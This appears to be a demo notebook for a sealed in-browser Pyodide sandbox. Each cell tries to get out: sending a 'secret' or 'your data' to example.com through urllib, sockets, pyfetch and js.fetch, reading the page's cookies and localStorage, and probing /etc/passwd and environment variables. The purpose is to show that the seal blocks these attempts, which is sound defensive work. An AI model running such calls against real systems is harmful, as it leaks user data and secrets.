# %% [markdown]
# # Try to get out
# Each cell asks for something that a sealed Python must not have. Run them all, one by one, and look at **Seal** in the rail.

# %%
import urllib.request

urllib.request.urlopen("https://example.com/?secret=42")

# %%
import socket

socket.create_connection(("example.com", 443))

# %%
from pyodide.http import pyfetch

await pyfetch("https://example.com/collect", method="POST", body="your data")

# %%
# The browser's own way out: it has been taken away, and the browser would refuse it too.
import js

await js.fetch("https://example.com/collect")

# %%
# The page around, its cookies and what it has stored:
from js import document, localStorage

document.cookie, localStorage.length

# %%
# The files Python sees are its own, made of memory:
import os

os.listdir("/home"), os.getenv("USER"), os.path.exists("/etc/passwd")
